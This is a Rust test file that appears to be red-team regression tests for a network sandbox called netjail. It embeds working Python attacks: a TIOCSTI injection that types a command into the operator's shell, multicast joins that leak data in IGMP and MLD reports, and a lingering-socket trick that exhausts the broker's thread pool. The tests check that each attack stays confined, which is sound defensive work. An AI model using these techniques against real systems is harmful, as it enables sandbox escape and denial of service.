//! Red team, second round: attacks that got out of a confinement on main.
//!
//! Each test runs its attack unconfined first (the canary must be reached, so the attack
//! itself works) and then confined under the policy that should refuse it. Each one FAILS
//! while the attack still gets out: the assertion is that the confined run reaches nothing.

use std::time::Duration;

use netjail_integration_tests::{confined_with_broker, netjail_bin, run, Broker, Canary, Outcome};

use crate::{have_setpriv, need_python, need_root, NOBODY};

const WAIT: Duration = Duration::from_secs(5);

// ---- rt2_tiocsti: typing into the operator's terminal -----------------------------------------

/// The confined program: checks that its own connect to the canary is refused (so it is
/// confined), then pushes a command line into its controlling terminal with `TIOCSTI`.
const TIOCSTI_VICTIM: &str = r#"
import fcntl, json, socket, sys, termios
port = int(sys.argv[1])
try:
    socket.create_connection(("127.0.0.1", port), timeout=2).close()
    direct = "ok"
except OSError as e:
    direct = e.errno
line = "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", %d)).send(b\"typed\")'\n" % port
pushed = 0
for ch in line:
    try:
        fcntl.ioctl(0, termios.TIOCSTI, ch.encode())
        pushed += 1
    except OSError:
        break
print(json.dumps({"direct": direct, "pushed": pushed, "len": len(line)}), file=sys.stderr, flush=True)
"#;

/// A stand-in for an operator's interactive shell: a pseudo-terminal that is the controlling
/// terminal of `sh`, which runs the (confined or not) victim and then reads and runs the next
/// line typed at it, as a shell prompt does once the program ends.
const TIOCSTI_DRIVER: &str = r#"
import os, pty, subprocess, sys, threading, fcntl, termios
victim, port, interp, prefix = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
master, slave = pty.openpty()
def ctty():
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
quoted = " ".join("'" + a.replace("'", "'\\''") + "'" for a in prefix + [interp, "-c", victim, port])
script = quoted + '; read -r line; eval "$line"'
p = subprocess.Popen(["sh", "-c", script], stdin=slave, stdout=slave, stderr=subprocess.PIPE, preexec_fn=ctty)
os.close(slave)
def drain():
    try:
        while os.read(master, 4096):
            pass
    except OSError:
        pass
threading.Thread(target=drain, daemon=True).start()
try:
    rc = p.wait(timeout=20)
except subprocess.TimeoutExpired:
    p.kill(); rc = "timeout"
sys.stderr.write(p.stderr.read().decode(errors="replace"))
print(rc)
"#;

/// A python3 that `nobody` may run: the system's where there is one (a pyenv interpreter
/// under `/root` is closed to other users).
fn nobody_python(py: &str) -> String {
    let system = std::path::Path::new("/usr/bin/python3");
    if system.is_file() {
        return system.to_string_lossy().into_owned();
    }
    py.to_owned()
}

fn tiocsti_run(py: &str, port: &str, prefix: &[&str]) -> Outcome {
    let mut cmd = std::process::Command::new(py);
    cmd.args([
        "-c",
        TIOCSTI_DRIVER,
        TIOCSTI_VICTIM,
        port,
        &nobody_python(py),
    ])
    .args(prefix);
    run(&mut cmd, Duration::from_secs(40))
}

/// Escape: under `deny-all` (and `loopback-only`, `disablenetwork`, every profile without
/// `ioctl = "safe-list"`) a confined program started from an interactive terminal pushes a
/// command line into that terminal with `TIOCSTI`; the operator's shell runs it once the
/// program ends, outside every confinement, and it reaches the canary. `netjail run` keeps the
/// caller's session and controlling terminal (no `setsid`), and `ioctl = "any"` is the default.
#[test]
fn rt2_tiocsti_deny_all_types_into_the_operators_shell() {
    let test = "rt2_tiocsti_deny_all_types_into_the_operators_shell";
    if !need_root(test) || !have_setpriv(test) {
        return;
    }
    let Some(py) = need_python(test) else {
        return;
    };
    let canary = Canary::tcp4();
    let port = canary.port_str();

    let out = tiocsti_run(&py, &port, &[]);
    assert!(
        canary.wait_count(1, WAIT) >= 1,
        "unconfined, the typed line must reach the canary: {}",
        out.describe()
    );

    let netjail = netjail_bin();
    let netjail = netjail.to_str().expect("utf-8 path");
    let before = canary.count();
    let nobody = format!("--reuid={NOBODY}");
    let nogroup = format!("--regid={NOBODY}");
    let prefix = [
        "setpriv",
        nobody.as_str(),
        nogroup.as_str(),
        "--clear-groups",
        "--",
        netjail,
        "run",
        "--policy",
        "deny-all",
        "--",
    ];
    let out = tiocsti_run(&py, &port, &prefix);
    let err = &out.stderr;
    assert!(
        err.contains("\"direct\": 1"),
        "the victim must be confined (its own connect refused): {}",
        out.describe()
    );
    assert_eq!(
        canary.settled_count(),
        before,
        "a deny-all sandbox typed a command into its terminal that reached the canary: {}",
        out.describe()
    );
}

// ---- rt2_multicast_join: group reports on the wire under deny-all ------------------------------

/// In a network namespace of the test's making: a veth pair `rt2a`/`rt2b`, a packet socket on
/// `rt2b` that records the IGMP and MLD reports it sees, and the joiner (run as the arguments
/// say, with `rt2a`'s index appended). Prints the joiner's answers and whether the chosen
/// groups were on the wire.
const PY_IGMP_WATCH: &str = r#"
import json, socket, subprocess, sys, threading, time
ifa = socket.if_nametoindex("rt2a")
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
s.bind(("rt2b", 0))
s.settimeout(0.2)
seen = {"igmp": False, "mld": False}
stop = []
def watch():
    while not stop:
        try:
            d = s.recv(4096)
        except socket.timeout:
            continue
        if d[12:14] == b"\x08\x00" and d[23] == 2 and socket.inet_aton("239.83.69.67") in d:
            seen["igmp"] = True
        if d[12:14] == b"\x86\xdd" and socket.inet_pton(socket.AF_INET6, "ff0e::5345:4352:4554") in d:
            seen["mld"] = True
t = threading.Thread(target=watch)
t.start()
done = subprocess.run(sys.argv[1:] + [str(ifa)], capture_output=True, text=True, timeout=20)
end = time.time() + 4
while time.time() < end and not (seen["igmp"] and seen["mld"]):
    time.sleep(0.1)
stop.append(1)
t.join()
out = json.loads(done.stdout.strip().splitlines()[-1]) if done.stdout.strip() else {"stderr": done.stderr}
out.update(seen)
print(json.dumps(out))
"#;

/// The joiner: joins 239.83.69.67 ("SEC") and ff0e::5345:4352:4554 ("SECRET") on the given
/// interface, and stays a moment so that the kernel sends its reports.
const PY_IGMP_JOIN: &str = r#"
import errno, json, socket, struct, sys, time
ifi = int(sys.argv[1])
out = {}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                 socket.inet_aton("239.83.69.67") + socket.inet_aton("0.0.0.0") + struct.pack("i", ifi))
    out["v4"] = "ok"
except OSError as e:
    out["v4"] = errno.errorcode[e.errno]
s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try:
    s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                  socket.inet_pton(socket.AF_INET6, "ff0e::5345:4352:4554") + struct.pack("I", ifi))
    out["v6"] = "ok"
except OSError as e:
    out["v6"] = errno.errorcode[e.errno]
try:
    socket.create_connection(("127.0.0.1", 9), timeout=1).close()
    out["direct"] = "ok"
except OSError as e:
    out["direct"] = errno.errorcode.get(e.errno, str(e.errno))
time.sleep(2)
print(json.dumps(out), flush=True)
"#;

/// Escape: under `deny-all` (also `loopback-only` and `jail`, which allow UDP sockets) a
/// program joins multicast groups with `IP_ADD_MEMBERSHIP` / `IPV6_JOIN_GROUP` (and
/// `MCAST_JOIN_GROUP`, `IP_ADD_SOURCE_MEMBERSHIP`, `IP_MSFILTER`...), on an interface it picks
/// by index, and the kernel sends IGMP and MLD reports naming those groups on that interface:
/// 28 bits per IPv4 group, 112 per IPv6 group (and source lists besides), to the network, with
/// no connect or send for the broker to decide. The joins are setsockopt calls the filter
/// lets through.
#[test]
fn rt2_multicast_join_reports_leave_under_deny_all() {
    let test = "rt2_multicast_join_reports_leave_under_deny_all";
    if !need_root(test) || !have_setpriv(test) {
        return;
    }
    let Some(py) = need_python(test) else {
        return;
    };
    let setup = "ip link set lo up && ip link add rt2a type veth peer name rt2b \
                 && ip addr add 10.99.0.1/24 dev rt2a && ip link set rt2a up \
                 && ip link set rt2b up && sleep 1 && exec \"$@\"";
    let in_netns = |joiner: &[&str]| {
        let mut args = vec!["unshare", "-n", "sh", "-c", setup, "sh"];
        args.extend_from_slice(&[&py, "-c", PY_IGMP_WATCH]);
        args.extend_from_slice(joiner);
        let out = netjail_integration_tests::unconfined(&args);
        assert_eq!(out.code(), Some(0), "{}", out.describe());
        out.json().clone()
    };
    let sys_py = nobody_python(&py);
    let native = in_netns(&[&sys_py, "-c", PY_IGMP_JOIN]);
    assert_eq!(native["v4"], "ok", "{native}");
    assert!(
        native["igmp"] == true && native["mld"] == true,
        "unconfined, the reports are on the wire: {native}"
    );

    let netjail = netjail_bin();
    let netjail = netjail.to_str().expect("utf-8 path");
    let nobody = format!("--reuid={NOBODY}");
    let nogroup = format!("--regid={NOBODY}");
    let confined = in_netns(&[
        "setpriv",
        &nobody,
        &nogroup,
        "--clear-groups",
        "--",
        netjail,
        "run",
        "--policy",
        "deny-all",
        "--",
        &sys_py,
        "-c",
        PY_IGMP_JOIN,
    ]);
    assert_eq!(
        confined["direct"], "EPERM",
        "the joiner is confined: {confined}"
    );
    assert!(
        confined["igmp"] == false && confined["mld"] == false,
        "a deny-all sandbox put group reports of its choosing on the wire: {confined}"
    );
}

// ---- rt2_linger: a passed socket's last close holds the broker's pool for ever ------------------

/// The attacker (under `loopback-only`): N pairs of connected loopback TCP sockets `c`/`s`,
/// `c` with `SO_LINGER` {on, 2^31-1 s} and data queued that `s` never reads; for each, a
/// `sendmsg` on a unix socket pair whose peer is full, passing `c` and `s` in one
/// `SCM_RIGHTS` message, so that it blocks in the broker, which holds its copies of both.
/// Then the program closes its own `c` and `s` and exits: the broker's blocked sends are
/// interrupted, and its copies, now the last references, are closed on the pool thread. The
/// close of `c` lingers until its FIN is acknowledged, which needs `s` to read; `s` is the
/// next copy in the same list, never closed. Prints how many sends were blocked.
const PY_LINGER: &str = r#"
import array, json, os, socket, struct, sys, threading, time
N = int(sys.argv[1])
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(128)
port = srv.getsockname()[1]
units, pending = [], []
for i in range(N):
    c = socket.socket()
    c.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    c.connect(("127.0.0.1", port))
    s, _ = srv.accept()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 2**31 - 1))
    c.setblocking(False)
    try:
        while True:
            c.send(b"L" * 4096)
    except BlockingIOError:
        pass
    a, b = socket.socketpair()
    a.setblocking(False)
    try:
        while True:
            a.send(b"F" * 65536)
    except BlockingIOError:
        pass
    a.setblocking(True)
    units.append((c, s, a, b))
def blocked(a, fds):
    try:
        a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    except OSError:
        pass
    pending.remove(a)
for c, s, a, b in units:
    pending.append(a)
    fds = array.array("i", [c.fileno(), s.fileno()]).tobytes()
    threading.Thread(target=blocked, args=(a, fds), daemon=True).start()
time.sleep(3)
for c, s, a, b in units:
    if a not in pending:
        # Refused (the pool is full): our own copy is the last, close it at once.
        c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    c.close()
    s.close()
print(json.dumps({"blocked": len(pending)}), flush=True)
os._exit(0)
"#;

/// The victim (another sandbox, under `loopback-only`): one unix connect to the canary.
const PY_UNIX_CONNECT: &str = r#"
import errno, json, socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(sys.argv[1])
    print(json.dumps({"ok": True}))
except OSError as e:
    print(json.dumps({"ok": False, "err": errno.errorcode.get(e.errno, str(e.errno))}))
"#;

/// Escape (denial of service of every other sandbox): a `loopback-only` sandbox passes a
/// lingering TCP socket and its never-reading peer in one `SCM_RIGHTS` message of a send
/// that blocks, closes its own copies, and exits. The broker's copies are then the last ones;
/// it closes them on the pool thread after the send ends (`drop(held)` in `deliver_here`,
/// outside the reaper's reach), and the close of the first waits, with no bound, for the
/// second to read. Each such call keeps its place on the blocking pool after its sandbox is
/// gone; a few dozen short runs fill all 448 places, and from then on every other sandbox's
/// unix connects and sends get `EAGAIN` after 2 s, until netjaild restarts.
#[test]
fn rt2_linger_close_of_passed_sockets_holds_the_pool_for_ever() {
    let test = "rt2_linger_close_of_passed_sockets_holds_the_pool_for_ever";
    if !need_root(test) {
        return;
    }
    let Some(py) = need_python(test) else {
        return;
    };
    let broker = Broker::start();
    let canary = Canary::unix_path("victim.sock");
    let path = canary.path().to_str().expect("utf-8 path").to_owned();
    let victim = || {
        confined_with_broker(
            &broker,
            "loopback-only",
            &[&py, "-c", PY_UNIX_CONNECT, &path],
        )
    };
    let before = victim();
    assert_eq!(
        before.json()["ok"],
        true,
        "before the attack the victim is served: {}",
        before.describe()
    );
    assert!(canary.wait_count(1, WAIT) >= 1);

    // One short run first: once its sandbox has ended, nothing of it should stay on the pool.
    let first = confined_with_broker(&broker, "loopback-only", &[&py, "-c", PY_LINGER, "4"]);
    let in_flight = || {
        broker
            .metrics()
            .get("netjail_calls_in_flight")
            .copied()
            .unwrap_or(0.0)
    };
    std::thread::sleep(WAIT);
    let left_after_one = in_flight();

    // Then as many runs as it takes to fill the pool: 64 places per sandbox while the shared
    // part lasts, 8 per sandbox from the reserve.
    let mut runs = vec![first.json()["blocked"].clone()];
    for n in [64, 64, 64, 64, 64]
        .into_iter()
        .chain(std::iter::repeat_n(8, 24))
    {
        let out = confined_with_broker(
            &broker,
            "loopback-only",
            &[&py, "-c", PY_LINGER, &n.to_string()],
        );
        let blocked = out.json()["blocked"].clone();
        runs.push(blocked.clone());
        if blocked == 0 {
            break;
        }
    }
    let served = canary.count();
    let after = victim();
    let left = in_flight();
    assert!(
        after.json()["ok"] == true && canary.wait_count(served + 1, WAIT) > served,
        "another sandbox is no longer served: its unix connect got {} after attacker runs \
         blocking {runs:?} ended; calls still on the pool: {left} (after the first run alone: \
         {left_after_one})",
        after.describe()
    );
    assert_eq!(
        left_after_one, 0.0,
        "calls of a sandbox that ended stay on the broker's pool"
    );
}
